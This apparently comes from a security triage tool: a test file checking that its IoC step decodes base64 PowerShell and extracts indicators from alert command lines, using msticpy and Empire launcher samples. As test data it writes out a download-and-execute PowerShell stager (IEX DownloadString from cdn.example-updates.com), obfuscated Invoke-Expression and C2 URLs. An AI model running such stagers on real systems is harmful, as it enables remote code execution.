/**
 * The `iocs` step run through the playbook against the embedded provider: msticpy's FTP -s alert (its tree holds
 * the encoded PowerShell sibling), the real Empire launcher, and hostile command lines.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Alert, parseAlert } from '../../../src/core/alert.js';
import type { Section } from '../../../src/core/section.js';
import { loadAlert } from '../../../src/investigation/commands/show-alert.js';
import type { CommandContext } from '../../../src/investigation/context.js';
import { runPlaybook } from '../../../src/investigation/playbook.js';
import { iocsStep } from '../../../src/investigation/steps/iocs.js';
import { empireLauncherFile, encodePowerShell, realCommandLine } from '../../analysis/verdict/real-command-lines.js';
import { hasSharedData } from '../../helpers/shared-data.js';
import {
  commandContext,
  factsOf,
  ftpAlertId,
  importedWorkspace,
  msticpyFiles,
  sectionById,
  stepContext,
  type TestWorkspace,
  tablesOf,
} from './step-test-context.js';

/** An alert on a host with no events, whose process ran `commandLine` from `image`. */
function processAlert(commandLine: string | null, image = 'C:\\Temp\\x.exe'): Alert {
  const slash = image.lastIndexOf('\\');
  const process: Record<string, unknown> = {
    $id: '2',
    Type: 'process',
    ProcessId: '0x10',
    ImageFile: { $id: '3', Type: 'file', Directory: image.slice(0, slash), Name: image.slice(slash + 1) },
  };
  if (commandLine !== null) process.CommandLine = commandLine;
  return parseAlert({
    SystemAlertId: 'test-alert',
    AlertName: 'Test',
    TimeGenerated: new Date('2019-01-15T05:15:20Z'),
    Entities: [{ $id: '1', Type: 'host', HostName: 'NOSUCHHOST' }, process],
  });
}

const rowsOf = (section: Section, index = 0) => tablesOf(section)[index]?.rows ?? [];
const codeOf = (section: Section) => section.blocks.flatMap((b) => (b.kind === 'code' ? [b.text] : []));

describe.skipIf(!hasSharedData)('iocs step', () => {
  let ws: TestWorkspace;
  let ctx: CommandContext;

  beforeAll(async () => {
    ws = await importedWorkspace(msticpyFiles);
    ctx = commandContext(ws.data, new Date('2019-01-16T00:00:00Z'));
  });
  afterAll(() => ws.close());

  describe('on the FTP -s alert', () => {
    let alert: Alert;
    let sections: Section[];
    beforeAll(async () => {
      alert = await loadAlert(ftpAlertId, ctx);
      sections = await runPlaybook([iocsStep], alert, ctx);
    });

    it('scans the alert command line; socbot leaves out linux_path on a Windows alert (msticpy string mode reports it)', () => {
      const line = sectionById(sections, 'iocs');
      expect(line).toMatchObject({ status: 'ok', title: 'Base64 and IoCs: alert command line', warnings: [] });
      expect(factsOf(line)).toEqual({
        'Command line': '32 characters',
        'Base64 payloads decoded': '0',
        IoCs: '2',
        'Worth a threat-intel lookup': '0',
      });
      expect(codeOf(line)).toEqual(['.\\ftp  -s:c:\\recycler\\xxppyy.exe']);
      expect(rowsOf(line)).toEqual([
        { type: 'windows_path', observable: '.\\ftp', where: 'alert command line', lookup: '—' },
        { type: 'windows_path', observable: 'c:\\recycler\\xxppyy.exe', where: 'alert command line', lookup: '—' },
      ]);
      expect(line.actions.map((a) => a.label)).toEqual(['Process tree', 'Command line elsewhere']);
    });

    it("decodes the tree's encoded PowerShell sibling (processes_on_host.csv) and ties IoCs to their processes", () => {
      const tree = sectionById(sections, 'iocs-tree');
      expect(tree.status).toBe('ok');
      expect(tree.subtitle).toBe(
        'MSTICALERTSWIN1 · 2019-01-15 04:15:20Z → 2019-01-15 05:25:20Z (-1h..+10m around the alert)',
      );
      expect(factsOf(tree)).toMatchObject({ 'Processes scanned': '132', 'Command lines with base64': '4' });
      expect(rowsOf(tree, 0)).toContainEqual({
        process: 'powershell.exe (PID 0x1684, sibling)',
        command: expect.stringMatching(/^\.\\powershell -enc JAB0ACAAPQAg/),
        decoded: ".\\powershell -enc «decoded: $t = 'dir'; & ('Invoke'+'-Expression') $t»",
      });
      const iocs = rowsOf(tree, 1);
      expect(iocs).toContainEqual({
        type: 'md5_hash',
        observable: '81ed03caf6901e444c72ac67d192fb9c',
        where: 'implant.exe (PID 0x1250, sibling)',
        lookup: 'lookup candidate',
      });
      expect(iocs).toContainEqual({
        type: 'url',
        observable: 'hxxp://badguyserver/pwnme',
        where: 'cmd.exe (PID 0x142c, sibling); powershell.exe (PID 0x14ac, sibling)',
        lookup: 'Host is unqualified domain name',
      });
      expect(iocs).toContainEqual(
        expect.objectContaining({ observable: '127[.]0[.]0[.]1', lookup: 'IP address is not global' }),
      );
      // msticpy's DataFrame-mode types only: no paths from the tree.
      expect(iocs.some((row) => row.type === 'windows_path' || row.type === 'linux_path')).toBe(false);
      expect(tree.actions.map((a) => a.command)).toContain('vt 1.2.3.4');
    });

    it('reports the encoded sibling and the network indicators as findings', async () => {
      const { findings } = await iocsStep.run(stepContext(ctx, alert));
      expect(findings?.[0]).toEqual({
        leaning: 'malicious',
        reason: "1 process in the alert's process tree ran an encoded command: powershell.exe (PID 0x1684, sibling).",
        evidence: "$t = 'dir'; & ('Invoke'+'-Expression') $t",
        stepId: 'iocs',
      });
      expect(findings?.map((f) => f.reason)).toContain(
        'The process tree names 1 public IP address: a direct connection outside the network.',
      );
      expect(findings?.find((f) => f.reason.includes('file hashes'))?.leaning).toBe('info');
    });
  });

  it('Empire launcher (Security-Datasets): decoded stager inline, the nested C2 URL as an IoC', async () => {
    const line = await realCommandLine(empireLauncherFile, /-enc /);
    const alert = processAlert(line, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
    const [section] = await runPlaybook([iocsStep], alert, ctx);
    expect(section && factsOf(section)).toMatchObject({ 'Base64 payloads decoded': '2' });
    const [code] = codeOf(section!);
    expect(code).toMatch(
      /^"C:\\Windows\\System32\\WindowsPowerShell\\v1\.0\\powershell\.exe" -noP -sta -w 1 -enc {2}«decoded: If\(/,
    );
    expect(code).toContain("[COnvERT]::FRoMBAsE64StriNg('«decoded: http://10.10.10.5»')");
    expect(rowsOf(section!, 0).map((r) => [r.depth, r.index, r.encoding])).toEqual([
      ['1', '1', 'utf-16'],
      ['2', '1.2', 'utf-16'],
    ]);
    expect(rowsOf(section!, 1)).toContainEqual({
      type: 'url',
      observable: 'hxxp://10[.]10[.]10[.]5',
      where: 'decoded from the alert command line',
      lookup: 'Host part of URL is a private IP address',
    });
    const { findings } = await iocsStep.run(stepContext(ctx, alert));
    expect(findings?.[0]).toMatchObject({
      reason: 'The command line hides its real command in base64 (-enc).',
      evidence: expect.stringMatching(/^If\(\$PSVERSiOnTaBlE/),
    });
  });

  it('Empire-style launcher with a public URL: the URL and its domain are lookup candidates and findings', async () => {
    const stager =
      "$wc=New-Object System.Net.WebClient;IEX $wc.DownloadString('https://cdn.example-updates.com/news.php')";
    const alert = processAlert(`powershell -noP -sta -w 1 -enc ${encodePowerShell(stager)}`);
    const [section] = await runPlaybook([iocsStep], alert, ctx);
    expect(rowsOf(section!, 1)).toEqual([
      {
        type: 'dns',
        observable: 'cdn[.]example-updates[.]com',
        where: 'decoded from the alert command line',
        lookup: 'lookup candidate',
      },
      {
        type: 'url',
        observable: 'hxxps://cdn[.]example-updates[.]com/news[.]php',
        where: 'decoded from the alert command line',
        lookup: 'lookup candidate',
      },
    ]);
    expect(section?.actions[0]).toEqual({
      label: 'VirusTotal: hxxps://cdn[.]example-updates[.]com/new…',
      command: 'vt https://cdn.example-updates.com/news.php',
    });
    const { findings } = await iocsStep.run(stepContext(ctx, alert));
    expect(findings?.map((f) => f.reason)).toEqual([
      'The command line hides its real command in base64 (-enc).',
      'The alert command line names 1 URL on an internet host: a download or C2 address.',
      'The alert command line names 1 external domain: worth a reputation check.',
    ]);
  });

  describe('hostile command lines finish quickly with warnings', () => {
    const timed = async (alert: Alert) => {
      const started = performance.now();
      const sections = await runPlaybook([iocsStep], alert, ctx);
      return { sections, ms: performance.now() - started };
    };

    it('10 MB: scanned up to 32,768 characters, and says so', async () => {
      const { sections, ms } = await timed(processAlert(`cmd /c ${'A'.repeat(10_000_000)}`));
      expect(ms).toBeLessThan(5_000);
      const [line] = sections;
      expect(line?.warnings[0]).toBe(
        "The command line has 10,000,007 characters; only the first 32,768 (Windows' limit) were scanned.",
      );
      expect(codeOf(line!)[0]).toMatch(/… \(\d[\d,]* more characters not shown\)$/);
    });

    it('binary: control characters counted and shown as �', async () => {
      const binary = Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 7919) % 256)).toString('latin1');
      const { sections, ms } = await timed(processAlert(binary));
      expect(ms).toBeLessThan(5_000);
      expect(sections[0]?.warnings.some((w) => /control characters \(binary data\), shown as \ufffd/.test(w))).toBe(
        true,
      );
      expect(codeOf(sections[0]!)[0]).not.toContain(String.fromCharCode(0));
    });

    it('a nested base64 bomb: decoding stops at the depth limit with a warning', async () => {
      let bomb = 'Get-Process';
      for (let i = 0; i < 12; i++) bomb = Buffer.from(`echo ${bomb}`).toString('base64');
      const { sections, ms } = await timed(processAlert(`cmd /c ${bomb}`));
      expect(ms).toBeLessThan(5_000);
      expect(sections[0]?.warnings).toContain('Base64 in the command line: stopped at nesting depth 6');
      expect(factsOf(sections[0]!)['Base64 payloads decoded']).toBe('6');
    });

    it('no command line: the tree is still tried; neither command line nor process: skipped', async () => {
      const { sections } = await timed(processAlert(null));
      expect(sections[0]).toMatchObject({ id: 'iocs', status: 'empty' });
      expect(sections[1]).toMatchObject({ id: 'iocs-tree', status: 'empty' });
      expect(sections[1]?.blocks[0]).toEqual({
        kind: 'text',
        markdown: 'No process 0x10 (C:\\Temp\\x.exe) among 0 process events. The tree could not be scanned.',
      });
      const bare = parseAlert({
        SystemAlertId: 'bare',
        AlertName: 'x',
        Entities: [{ $id: '1', Type: 'host', HostName: 'H' }],
      });
      const skipped = await runPlaybook([iocsStep], bare, ctx);
      expect(skipped).toEqual([
        expect.objectContaining({
          id: 'iocs',
          status: 'skipped',
          blocks: [{ kind: 'text', markdown: 'Skipped: the alert has neither a command line nor a process.' }],
        }),
      ]);
    });
  });
});
